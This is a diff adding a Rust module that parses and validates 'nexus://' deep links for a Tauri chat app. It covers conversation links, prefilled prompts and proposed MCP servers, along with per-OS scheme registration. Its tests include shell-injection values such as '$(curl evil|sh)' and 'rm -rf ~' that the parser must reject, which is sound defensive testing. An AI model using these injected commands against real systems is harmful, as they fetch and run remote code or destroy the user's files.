@@ -0,0 +1,463 @@
+// Deep Links
+// ==========
+//
+// `nexus://` links let browsers and other apps hand something to Nexus:
+//
+// - `nexus://chat/<id>` opens a conversation
+// - `nexus://new?prompt=<text>` starts a new chat with the prompt filled in
+//   (not sent)
+// - `nexus://mcp/add?name=<name>&command=<cmd>&arg=<arg>&env=<KEY=value>`
+//   proposes a stdio MCP server, `arg` and `env` repeated as needed; with
+//   `url=<https://...>` instead of `command`, an HTTP one. The frontend
+//   must have the user confirm it, showing the exact `command_line` it
+//   would run, and never starts it on its own. Since stdio servers run
+//   through the login shell, the command, arguments and environment
+//   values may only hold characters the shell takes literally.
+//
+// A link is parsed and validated here; the frontend receives the result,
+// never the raw URL. On Windows and Linux, opening a link launches the app
+// with it as an argument, and that launch hands it to a running daemon like
+// any other launch (see `daemon`). macOS delivers it to the running app as
+// an `Opened` event. Either way it reaches a window that is already open
+// as a `deep-link` event, or is kept for the window being opened until it
+// asks for it with `take_pending_deep_link`.
+//
+// The scheme is declared in `Info.plist` on macOS. Windows and Linux have
+// no install step for it, so it is registered for the current user at
+// startup: a key under `HKCU\Software\Classes`, or an XDG desktop entry
+// set as the `x-scheme-handler/nexus` default.
+
+use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
+use std::fmt;
+use std::sync::Mutex;
+use tauri::{AppHandle, Emitter, Manager, Url};
+
+pub const SCHEME: &str = "nexus";
+/// Longer than a Windows command line can be anyway
+const MAX_LINK_CHARS: usize = 32_000;
+const MAX_PROMPT_CHARS: usize = 30_000;
+const MAX_ID_CHARS: usize = 100;
+const MAX_NAME_CHARS: usize = 100;
+const MAX_ARGS: usize = 50;
+const MAX_ENV_VARS: usize = 50;
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(
+    tag = "type",
+    rename_all = "snake_case",
+    rename_all_fields = "camelCase"
+)]
+pub enum DeepLink {
+    OpenConversation {
+        id: String,
+    },
+    NewChat {
+        prompt: Option<String>,
+    },
+    /// A server to add once the user confirms; exactly one of `command`
+    /// and `url` is set
+    AddMcpServer {
+        name: String,
+        command: Option<String>,
+        args: Vec<String>,
+        env: HashMap<String, String>,
+        url: Option<String>,
+        /// What the shell would run for a stdio server, to show the user
+        command_line: Option<String>,
+    },
+}
+
+/// A link as handed from one launch to a running daemon. Printing it for
+/// the log leaves out everything after the host, which may carry secrets.
+#[derive(Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(transparent)]
+pub struct RawLink(pub String);
+
+impl fmt::Debug for RawLink {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match Url::parse(&self.0) {
+            Ok(url) => write!(
+                f,
+                "{}://{}/…",
+                url.scheme(),
+                url.host_str().unwrap_or_default()
+            ),
+            Err(_) => write!(f, "(invalid link)"),
+        }
+    }
+}
+
+/// A link a launch delivered before the window could take it; managed as
+/// app state.
+#[derive(Default)]
+pub struct PendingDeepLink(Mutex<Option<DeepLink>>);
+
+fn is_id(value: &str) -> bool {
+    !value.is_empty()
+        && value.len() <= MAX_ID_CHARS
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
+}
+
+/// Whether the shell takes `value` as it is: no quoting, expansion,
+/// globbing, separators or whitespace.
+fn is_shell_literal(value: &str) -> bool {
+    value
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c))
+}
+
+fn parse_mcp_server(url: &Url) -> Result<DeepLink, String> {
+    let mut name = None;
+    let mut command = None;
+    let mut server_url = None;
+    let mut args = Vec::new();
+    let mut env = HashMap::new();
+    for (key, value) in url.query_pairs() {
+        match key.as_ref() {
+            "name" => name = Some(value.into_owned()),
+            "command" => command = Some(value.into_owned()),
+            "url" => server_url = Some(value.into_owned()),
+            "arg" => args.push(value.into_owned()),
+            "env" => {
+                let (key, value) = value
+                    .split_once('=')
+                    .ok_or("Environment variables must be given as KEY=value")?;
+                env.insert(key.to_string(), value.to_string());
+            }
+            other => return Err(format!("Unknown MCP server link parameter {other}")),
+        }
+    }
+
+    let name = name.ok_or("The MCP server link has no name")?;
+    if name.trim().is_empty() {
+        return Err("The MCP server link has no name".to_string());
+    }
+    crate::validate_string_input(&name, MAX_NAME_CHARS, "Server name")?;
+    if args.len() > MAX_ARGS || env.len() > MAX_ENV_VARS {
+        return Err(format!(
+            "An MCP server link can have at most {MAX_ARGS} arguments and {MAX_ENV_VARS} environment variables"
+        ));
+    }
+    let valid_env_name = |key: &str| {
+        !key.is_empty()
+            && !key.starts_with(|c: char| c.is_ascii_digit())
+            && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+    };
+    if let Some(key) = env.keys().find(|key| !valid_env_name(key)) {
+        return Err(format!("Invalid environment variable name {key}"));
+    }
+    match (&command, &server_url) {
+        (Some(command), None) if !command.trim().is_empty() => {
+            if !is_shell_literal(command) {
+                return Err(
+                    "The MCP server command contains characters the shell would interpret"
+                        .to_string(),
+                );
+            }
+            if let Some(arg) = args.iter().find(|arg| !is_shell_literal(arg)) {
+                return Err(format!(
+                    "The MCP server argument {arg} contains characters the shell would interpret"
+                ));
+            }
+            // Not the value, which may be a secret
+            if let Some(key) = env
+                .iter()
+                .find(|(_, value)| !is_shell_literal(value))
+                .map(|(key, _)| key)
+            {
+                return Err(format!(
+                    "The value of {key} contains characters the shell would interpret"
+                ));
+            }
+        }
+        (None, Some(server_url)) => {
+            let parsed =
+                Url::parse(server_url).map_err(|e| format!("Invalid MCP server URL: {e}"))?;
+            if !matches!(parsed.scheme(), "http" | "https") {
+                return Err("MCP server URLs must use http or https".to_string());
+            }
+            if !args.is_empty() || !env.is_empty() {
+                return Err("HTTP MCP servers take no arguments or environment".to_string());
+            }
+        }
+        _ => return Err("An MCP server link needs either a command or a url".to_string()),
+    }
+    let command_line = command
+        .as_deref()
+        .map(|command| crate::mcp::command_line(command, &args, &env));
+    Ok(DeepLink::AddMcpServer {
+        name,
+        command,
+        args,
+        env,
+        url: server_url,
+        command_line,
+    })
+}
+
+/// Parses and validates a `nexus://` link.
+pub fn parse(link: &str) -> Result<DeepLink, String> {
+    if link.chars().count() > MAX_LINK_CHARS {
+        return Err(format!("Links can be at most {MAX_LINK_CHARS} characters"));
+    }
+    let url = Url::parse(link).map_err(|e| format!("Invalid link: {e}"))?;
+    if url.scheme() != SCHEME {
+        return Err(format!("Not a {SCHEME}:// link"));
+    }
+    let path = url.path().trim_matches('/');
+    match (url.host_str().unwrap_or_default(), path) {
+        ("chat", id) if is_id(id) => Ok(DeepLink::OpenConversation { id: id.to_string() }),
+        ("chat", _) => Err("Invalid conversation id".to_string()),
+        ("new", "") => {
+            let prompt = url
+                .query_pairs()
+                .find(|(key, _)| key == "prompt")
+                .map(|(_, prompt)| prompt.into_owned());
+            if let Some(prompt) = &prompt {
+                crate::validate_string_input(prompt, MAX_PROMPT_CHARS, "Prompt")?;
+            }
+            Ok(DeepLink::NewChat { prompt })
+        }
+        ("mcp", "add") => parse_mcp_server(&url),
+        _ => Err(format!(
+            "Unknown link {SCHEME}://{}",
+            url.host_str().unwrap_or_default()
+        )),
+    }
+}
+
+/// The link the app was launched with, if any.
+pub fn from_args() -> Option<RawLink> {
+    let prefix = format!("{SCHEME}://");
+    std::env::args()
+        .skip(1)
+        .find(|arg| arg.starts_with(&prefix))
+        .map(RawLink)
+}
+
+/// Shows the window and hands it the link, or keeps the link for the
+/// window being opened.
+pub fn open(app: &AppHandle, link: &str) -> Result<(), String> {
+    let link = parse(link).inspect_err(|e| log::warn!("Ignoring deep link: {e}"))?;
+    // Not the link itself, which may carry secrets in an MCP server's env
+    let kind = match &link {
+        DeepLink::OpenConversation { .. } => "conversation",
+        DeepLink::NewChat { .. } => "new chat",
+        DeepLink::AddMcpServer { .. } => "MCP server",
+    };
+    log::info!("Opening {kind} deep link");
+    let window_open = app.get_webview_window("main").is_some();
+    if !window_open {
+        // The new window picks it up once it has loaded
+        let pending = app.state::<PendingDeepLink>();
+        *pending.0.lock().map_err(|e| e.to_string())? = Some(link.clone());
+    }
+    crate::daemon::show_main_window(app)?;
+    if window_open {
+        app.emit("deep-link", &link)
+            .map_err(|e| format!("Failed to emit deep-link event: {e}"))?;
+    }
+    Ok(())
+}
+
+/// Called at startup: registers the scheme and keeps the link this launch
+/// was started with for the window.
+pub fn start(app: &AppHandle) {
+    if let Some(RawLink(link)) = from_args() {
+        match parse(&link) {
+            Ok(link) => {
+                if let Ok(mut pending) = app.state::<PendingDeepLink>().0.lock() {
+                    *pending = Some(link);
+                }
+            }
+            Err(e) => log::warn!("Ignoring deep link: {e}"),
+        }
+    }
+    std::thread::spawn(|| {
+        if let Err(e) = register() {
+            log::warn!("Failed to register the {SCHEME}:// scheme: {e}");
+        }
+    });
+}
+
+#[cfg(windows)]
+fn register() -> Result<(), String> {
+    use windows::core::{HSTRING, PCWSTR};
+    use windows::Win32::System::Registry::{
+        RegCloseKey, RegCreateKeyW, RegSetValueExW, HKEY, HKEY_CURRENT_USER, REG_SZ,
+    };
+
+    fn set_value(path: &str, name: Option<&str>, value: &str) -> Result<(), String> {
+        let data: Vec<u8> = value
+            .encode_utf16()
+            .chain(std::iter::once(0))
+            .flat_map(u16::to_le_bytes)
+            .collect();
+        let name = name.map(HSTRING::from);
+        let name = name
+            .as_ref()
+            .map_or(PCWSTR::null(), |name| PCWSTR(name.as_ptr()));
+        let mut key = HKEY::default();
+        unsafe {
+            RegCreateKeyW(HKEY_CURRENT_USER, &HSTRING::from(path), &mut key)
+                .ok()
+                .map_err(|e| format!("Failed to create {path}: {e}"))?;
+            let result = RegSetValueExW(key, name, None, REG_SZ, Some(&data));
+            let _ = RegCloseKey(key);
+            result
+                .ok()
+                .map_err(|e| format!("Failed to write {path}: {e}"))
+        }
+    }
+
+    let exe = std::env::current_exe().map_err(|e| e.to_string())?;
+    let root = format!("Software\\Classes\\{SCHEME}");
+    set_value(&root, None, "URL:Nexus")?;
+    set_value(&root, Some("URL Protocol"), "")?;
+    set_value(
+        &format!("{root}\\shell\\open\\command"),
+        None,
+        &format!("\"{}\" \"%1\"", exe.display()),
+    )
+}
+
+#[cfg(target_os = "linux")]
+fn register() -> Result<(), String> {
+    const DESKTOP_FILE: &str = "nexus-url-handler.desktop";
+
+    // An AppImage runs from a temporary mount; the image itself is stable
+    let exe = std::env::var_os("APPIMAGE")
+        .map(std::path::PathBuf::from)
+        .map_or_else(std::env::current_exe, Ok)
+        .map_err(|e| e.to_string())?;
+    let data_home = std::env::var_os("XDG_DATA_HOME")
+        .map(std::path::PathBuf::from)
+        .or_else(|| {
+            std::env::var_os("HOME").map(|home| std::path::Path::new(&home).join(".local/share"))
+        })
+        .ok_or("Neither XDG_DATA_HOME nor HOME is set")?;
+    let applications = data_home.join("applications");
+    std::fs::create_dir_all(&applications)
+        .map_err(|e| format!("Failed to create {}: {e}", applications.display()))?;
+    let entry = format!(
+        "[Desktop Entry]\nType=Application\nName=Nexus\nExec=\"{}\" %u\nNoDisplay=true\nMimeType=x-scheme-handler/{SCHEME};\n",
+        exe.display()
+    );
+    let path = applications.join(DESKTOP_FILE);
+    if std::fs::read_to_string(&path).is_ok_and(|existing| existing == entry) {
+        return Ok(());
+    }
+    crate::export::write_atomic(&path, entry.as_bytes())?;
+    let status = std::process::Command::new("xdg-mime")
+        .args([
+            "default",
+            DESKTOP_FILE,
+            &format!("x-scheme-handler/{SCHEME}"),
+        ])
+        .status()
+        .map_err(|e| format!("Failed to run xdg-mime: {e}"))?;
+    if !status.success() {
+        return Err(format!("xdg-mime failed with {status}"));
+    }
+    log::info!("Registered the {SCHEME}:// scheme");
+    Ok(())
+}
+
+/// Declared in `Info.plist` at build time.
+#[cfg(not(any(windows, target_os = "linux")))]
+fn register() -> Result<(), String> {
+    Ok(())
+}
+
+/// Returns the link the app was opened with, once.
+#[tauri::command]
+pub async fn take_pending_deep_link(app: AppHandle) -> Result<Option<DeepLink>, String> {
+    let pending = app.state::<PendingDeepLink>();
+    let link = pending.0.lock().map_err(|e| e.to_string())?.take();
+    Ok(link)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn parses_conversation_and_new_chat_links() {
+        assert_eq!(
+            parse("nexus://chat/abc-123"),
+            Ok(DeepLink::OpenConversation {
+                id: "abc-123".to_string()
+            })
+        );
+        assert!(parse("nexus://chat/a%20b").is_err());
+        assert_eq!(
+            parse("nexus://new?prompt=Hello%20there"),
+            Ok(DeepLink::NewChat {
+                prompt: Some("Hello there".to_string())
+            })
+        );
+        assert!(parse("https://chat/abc").is_err());
+        assert!(parse("nexus://unknown").is_err());
+    }
+
+    #[test]
+    fn parses_stdio_server_with_its_command_line() {
+        let link = parse(
+            "nexus://mcp/add?name=Files&command=npx&arg=-y\
+             &arg=@modelcontextprotocol/server-filesystem&env=ROOT=/tmp",
+        )
+        .unwrap();
+        let DeepLink::AddMcpServer {
+            command_line, args, ..
+        } = link
+        else {
+            panic!("not an MCP server link");
+        };
+        assert_eq!(args, ["-y", "@modelcontextprotocol/server-filesystem"]);
+        assert_eq!(
+            command_line.as_deref(),
+            Some("export ROOT=\"/tmp\"; npx -y @modelcontextprotocol/server-filesystem")
+        );
+    }
+
+    #[test]
+    fn rejects_what_the_shell_would_interpret() {
+        for link in [
+            "nexus://mcp/add?name=x&command=npx&arg=$(curl%20evil|sh)",
+            "nexus://mcp/add?name=x&command=npx&arg=`id`",
+            "nexus://mcp/add?name=x&command=npx&arg=a;b",
+            "nexus://mcp/add?name=x&command=npx&arg=a%20b",
+            "nexus://mcp/add?name=x&command=npx&env=X=%22;rm%20-rf%20~;%22",
+            "nexus://mcp/add?name=x&command=npx&env=X=$HOME",
+            "nexus://mcp/add?name=x&command=sh%20-c",
+            "nexus://mcp/add?name=x&command=npx&env=1X=y",
+        ] {
+            assert!(parse(link).is_err(), "{link}");
+        }
+    }
+
+    #[test]
+    fn validates_http_servers() {
+        let link = parse("nexus://mcp/add?name=Remote&url=https://example.com/mcp").unwrap();
+        assert!(matches!(
+            link,
+            DeepLink::AddMcpServer {
+                command_line: None,
+                ..
+            }
+        ));
+        for link in [
+            "nexus://mcp/add?name=Remote&url=ftp://example.com",
+            "nexus://mcp/add?name=Remote&url=https://example.com&arg=x",
+            "nexus://mcp/add?name=Remote",
+            "nexus://mcp/add?url=https://example.com",
+            "nexus://mcp/add?name=x&command=npx&url=https://example.com",
+            "nexus://mcp/add?name=x&command=npx&other=1",
+        ] {
+            assert!(parse(link).is_err(), "{link}");
+        }
+    }
+}